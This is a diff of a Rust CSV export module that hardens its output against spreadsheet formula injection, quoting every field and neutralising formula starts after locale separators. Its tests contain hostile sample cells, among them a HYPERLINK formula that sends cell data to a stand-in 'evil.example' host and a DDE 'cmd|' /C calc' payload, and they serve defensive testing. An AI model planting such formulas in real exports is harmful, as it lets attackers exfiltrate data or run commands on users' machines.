@@ -1,10 +1,13 @@
 //! CSV exports of the fleet tables, the device × KB matrix and one device's missing KBs.
 //!
-//! RFC 4180 (comma, `"` quoting, CRLF line ends), UTF-8 without a byte-order mark: the
-//! download code prepends one if a spreadsheet needs it. Every cell that a spreadsheet would
-//! read as a formula (first character `=`, `+`, `-`, `@`, tab or carriage return) gets a
-//! leading `'`, because device names, update names and product names come from the API and
-//! may be hostile.
+//! RFC 4180 (comma, every field in `"` quotes, CRLF line ends), UTF-8 without a byte-order
+//! mark: the download code prepends one if a spreadsheet needs it. Device names, update names
+//! and product names come from the API and may be hostile, and a spreadsheet whose list
+//! separator is `;` (Dutch or German Excel) or tab splits the file elsewhere than at its
+//! commas. So every field is quoted, and a `'` goes before anything that would start a
+//! formula: a cell starting with `=`, `+`, `-`, `@` (after leading whitespace), a tab or a
+//! carriage return, and the same after a `;`, tab or line break inside a cell
+//! ([`neutralise`]).
 //!
 //! ```
 //! use kbwatch_core::fleet::csv_export::device_kbs_csv;
@@ -133,13 +136,55 @@ pub fn device_kbs_csv(kbs: &[MissingKb]) -> String {
     )
 }
 
-/// The cell as written: a `'` in front of anything a spreadsheet would evaluate.
+/// Characters a spreadsheet reads as the start of a formula.
+const FORMULA_STARTS: [char; 4] = ['=', '+', '-', '@'];
+
+/// Characters a spreadsheet expecting another list separator than the file's comma splits on:
+/// `;` (Dutch or German Excel), tab, and line breaks. Past the first cell such a reader is
+/// outside the quotes, so what follows one of them inside a cell starts a cell of its own.
+const SPLITS: [char; 4] = [';', '\t', '\r', '\n'];
+
+/// The cell as written: a `'` before anything a spreadsheet would evaluate — at the start of a
+/// cell that begins with a formula character (after leading whitespace or invisible
+/// characters), a tab or a carriage return (OWASP's list), and just after a separator inside
+/// the cell that is followed by such a start, by a quote, or by the cell's end (where a
+/// misreading reader would find a quote and lose track of which quotes open a cell).
 pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
-    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
-        std::borrow::Cow::Owned(format!("'{cell}"))
-    } else {
-        std::borrow::Cow::Borrowed(cell)
+    let at_start = starts_a_formula(cell);
+    let inner: Vec<usize> = cell
+        .char_indices()
+        .filter(|&(_, c)| SPLITS.contains(&c))
+        .map(|(i, c)| i + c.len_utf8())
+        .filter(|&after| {
+            let rest = &cell[after..];
+            // CR LF is one line break: the LF after it decides.
+            !(cell[..after].ends_with('\r') && rest.starts_with('\n'))
+                && (rest.is_empty() || rest.starts_with('"') || starts_a_formula(rest))
+        })
+        .collect();
+    if !at_start && inner.is_empty() {
+        return std::borrow::Cow::Borrowed(cell);
     }
+    let mut out = String::with_capacity(cell.len() + inner.len() + 1);
+    if at_start {
+        out.push('\'');
+    }
+    let mut from = 0;
+    for at in inner {
+        out.push_str(&cell[from..at]);
+        out.push('\'');
+        from = at;
+    }
+    out.push_str(&cell[from..]);
+    std::borrow::Cow::Owned(out)
+}
+
+/// Whether a spreadsheet would evaluate a cell starting with `text`.
+fn starts_a_formula(text: &str) -> bool {
+    text.starts_with(['\t', '\r'])
+        || text
+            .trim_start_matches(|c: char| c.is_whitespace() || crate::quote::is_format(c))
+            .starts_with(FORMULA_STARTS)
 }
 
 /// The one CSV writer: header plus rows, every cell neutralised.
@@ -161,29 +206,21 @@ where
 }
 
 fn write_record<C: AsRef<str>>(out: &mut String, cells: impl IntoIterator<Item = C>) {
-    let start = out.len();
     for (i, cell) in cells.into_iter().enumerate() {
         if i > 0 {
             out.push(',');
         }
         write_field(out, &neutralise(cell.as_ref()));
     }
-    if out.len() == start {
-        // A lone empty field: quoted, or the record would be an empty line readers skip.
-        out.push_str("\"\"");
-    }
     out.push_str("\r\n");
 }
 
-/// RFC 4180: a field with a comma, a quote or a line break is quoted, its quotes doubled.
+/// Every field quoted, its quotes doubled: a separator of any locale inside a cell stays in
+/// the cell, and a lone empty cell is `""`, not an empty line readers skip.
 fn write_field(out: &mut String, field: &str) {
-    if field.contains([',', '"', '\r', '\n']) {
-        out.push('"');
-        out.push_str(&field.replace('"', "\"\""));
-        out.push('"');
-    } else {
-        out.push_str(field);
-    }
+    out.push('"');
+    out.push_str(&field.replace('"', "\"\""));
+    out.push('"');
 }
 
 #[cfg(test)]
@@ -209,13 +246,7 @@ mod tests {
     }
 
     fn parse(csv: &str) -> Vec<Vec<String>> {
-        csv::ReaderBuilder::new()
-            .has_headers(false)
-            .flexible(true)
-            .from_reader(csv.as_bytes())
-            .records()
-            .map(|r| r.expect("valid CSV").iter().map(str::to_owned).collect())
-            .collect()
+        parse_with(csv, b',')
     }
 
     proptest! {
@@ -384,6 +415,121 @@ mod tests {
             .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""));
     }
 
+    /// A separator a spreadsheet may split on: the file's own comma, and the list separators
+    /// of other locales (`;` in Dutch or German Excel, tab when pasted).
+    const SEPARATORS: [u8; 3] = [b',', b';', b'\t'];
+
+    /// `csv` read as a spreadsheet whose list separator is `separator` reads it.
+    fn parse_with(csv: &str, separator: u8) -> Vec<Vec<String>> {
+        csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .delimiter(separator)
+            .from_reader(csv.as_bytes())
+            .records()
+            .map(|r| r.expect("valid CSV").iter().map(str::to_owned).collect())
+            .collect()
+    }
+
+    /// Whether a spreadsheet would evaluate `cell`: a formula character first once leading
+    /// whitespace is skipped, or a tab or carriage return first (OWASP's list).
+    fn spreadsheet_would_evaluate(cell: &str) -> bool {
+        cell.starts_with(['\t', '\r'])
+            || cell
+                .trim_start()
+                .starts_with(['=', '+', '-', '@', '\t', '\r'])
+    }
+
+    /// Cells an attacker would pick: separators of every locale, quotes, line breaks,
+    /// whitespace before a formula, and anything else.
+    fn hostile_cell() -> impl Strategy<Value = String> {
+        prop_oneof![
+            3 => "[a-z,;\t\r\n\" =+@'-]{0,12}",
+            1 => "\\PC{0,12}",
+            1 => "[ \t\r\n\u{a0}\u{3000}]{0,3}[=+@-][a-z(),;\"]{0,6}",
+        ]
+    }
+
+    #[test]
+    fn every_field_is_quoted() {
+        assert_eq!(
+            write_csv(&["KB", "Update"], [["KB1", ""], ["1", "a\"b"]]),
+            "\"KB\",\"Update\"\r\n\"KB1\",\"\"\r\n\"1\",\"a\"\"b\"\r\n"
+        );
+    }
+
+    #[test]
+    fn a_semicolon_list_separator_does_not_split_a_cell_into_a_formula() {
+        // The update name is the second column: a reader splitting on `;` is past the first
+        // cell's closing quote there, so the quotes around this one no longer protect it.
+        for cell in [
+            "x;=HYPERLINK(\"http://evil\")",
+            "x;=HYPERLINK(A1)",
+            "x;=cmd|' /C calc'!A0",
+        ] {
+            let csv = device_kbs_csv(&[kb("1", cell, &[], 1)]);
+            let table = parse_with(&csv, b';');
+            for row in &table {
+                for parsed in row {
+                    assert!(!spreadsheet_would_evaluate(parsed), "{parsed:?} in {csv:?}");
+                }
+            }
+            // Alone on its line, it is one cell under `;` as under `,`.
+            let alone = write_csv(&["Update"], [[cell]]);
+            assert_eq!(
+                parse_with(&alone, b';')[1],
+                [neutralise(cell).into_owned()],
+                "{alone:?}"
+            );
+        }
+        assert_eq!(neutralise("x;=HYPERLINK(A1)"), "x;'=HYPERLINK(A1)");
+    }
+
+    #[test]
+    fn whitespace_before_a_formula_does_not_hide_it() {
+        for cell in [
+            "  =cmd",
+            "\t=cmd",
+            "\r\n=cmd",
+            " +1",
+            "\u{a0}@SUM(A1)",
+            " -1",
+        ] {
+            assert!(neutralise(cell).starts_with('\''), "{cell:?}");
+        }
+        assert_eq!(neutralise("  =cmd"), "'  =cmd");
+        assert_eq!(neutralise("a b"), "a b");
+    }
+
+    proptest! {
+        /// Read back with the file's comma, every record is the cells written (neutralised);
+        /// read by a spreadsheet splitting on `;` or tab instead, a cell alone on its line is
+        /// still that cell, and however a record falls apart no part starts a formula.
+        #[test]
+        fn no_separator_turns_any_part_of_a_cell_into_a_formula(
+            rows in proptest::collection::vec(proptest::collection::vec(hostile_cell(), 1..5), 0..6),
+        ) {
+            let header = ["one", "two"];
+            let csv = write_csv(&header, rows.iter());
+            let mut expected = vec![header.iter().map(|h| h.to_string()).collect::<Vec<_>>()];
+            expected.extend(
+                rows.iter()
+                    .map(|row| row.iter().map(|c| neutralise(c).into_owned()).collect()),
+            );
+            prop_assert_eq!(parse_with(&csv, b','), expected);
+            for separator in SEPARATORS {
+                for cell in parse_with(&csv, separator).iter().flatten() {
+                    prop_assert!(!spreadsheet_would_evaluate(cell), "{:?} under {:?} in {:?}", cell, separator as char, csv);
+                }
+                for cell in rows.iter().flatten() {
+                    let alone = write_csv(&["one"], [[cell]]);
+                    let table = parse_with(&alone, separator);
+                    prop_assert_eq!(&table[1], &[neutralise(cell).into_owned()], "{:?}", alone);
+                }
+            }
+        }
+    }
+
     proptest! {
         #[test]
         fn no_cell_ever_starts_a_formula(
@@ -401,13 +547,12 @@ mod tests {
                     prop_assert!(!cell.starts_with(FORMULA_STARTS), "{:?}", cell);
                 }
             }
-            // Names survive the round trip, with at most a leading `'`.
+            // Names survive the round trip, with at most a `'` before each formula start.
             let device_rows = f.device_rows(&FleetDeviceFilter::default(), Sort::default());
             let table = parse(&devices_csv(&device_rows));
             for (row, device) in table[1..].iter().zip(&device_rows) {
                 let cell = &row[0];
-                let quoted = format!("'{}", device.name);
-                prop_assert!(cell == &device.name || *cell == quoted, "{:?}", cell);
+                prop_assert_eq!(cell.replace('\'', ""), device.name.replace('\'', ""));
             }
         }
     }
